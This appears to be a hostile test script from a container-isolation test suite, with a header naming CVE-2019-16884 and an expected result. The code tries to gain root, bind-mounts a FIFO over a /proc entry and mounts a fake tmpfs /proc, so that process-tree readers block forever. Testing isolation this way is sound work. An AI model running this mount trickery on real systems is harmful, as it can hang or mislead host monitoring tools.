"""Puts a /proc of its own in the place of the kernel's, with queues instead of files: who reads there waits for ever.

class: CVE-2019-16884 and kin, false /proc
expect: passed, leaks
docker: contained: mount needs CAP_SYS_ADMIN
"""
import contextlib
import os
import signal

import groups
import hostile

MS_BIND = 0x1000
if os.fork() == 0:
    os.setsid()
    while True:
        signal.pause()
os.mkfifo("/tmp/queue")
with contextlib.suppress(OSError):
    groups.become_root()
    hostile.syscall("mount", b"/tmp/queue", b"/proc/1/task/1/children", b"none", MS_BIND, b"")
with contextlib.suppress(OSError):
    hostile.syscall("mount", b"false", b"/proc", b"tmpfs", 0, b"")
    os.makedirs("/proc/1/task/1")
    os.mkfifo("/proc/1/task/1/children")
os._exit(0)
